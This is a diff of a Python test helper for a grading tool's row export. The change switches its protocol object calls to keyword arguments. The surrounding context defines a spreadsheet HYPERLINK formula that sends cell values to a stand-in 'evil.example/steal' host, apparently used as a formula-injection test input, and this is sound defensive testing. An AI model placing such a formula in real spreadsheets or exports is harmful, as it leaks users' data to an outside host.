@@ -16,9 +16,12 @@ FORMULA = '=HYPERLINK("https://evil.example/steal?g="&B2&C2, "click")'
 
 
 def row(file: str = "class/a.py", subject: str = FORMULA, message: str = "-1 is wrong") -> dict:
-    finding = protocol.CriterionFinding(Criterion.FORWARD, 1, 0, "values", {}, message)
-    graded = protocol.FileGraded(0, file, [subject], [], subject, "@name", [finding],
-                                 [protocol.ErrorInfo(3, "forward", "+ValueError", "x\ny")], "", "on")
+    finding = protocol.CriterionFinding(criterion=Criterion.FORWARD, cases=1, passed=0, code="values", params={},
+                                        message=message)
+    graded = protocol.FileGraded(request_id=0, path=file, functions=[subject], modules=[], subject=subject,
+                                 matched_by="@name", findings=[finding],
+                                 errors=[protocol.ErrorInfo(line=3, phase="forward", type="+ValueError",
+                                                            message="x\ny")], output="", sandbox="on")
     return row_of(graded, POINTS, file)
 
 
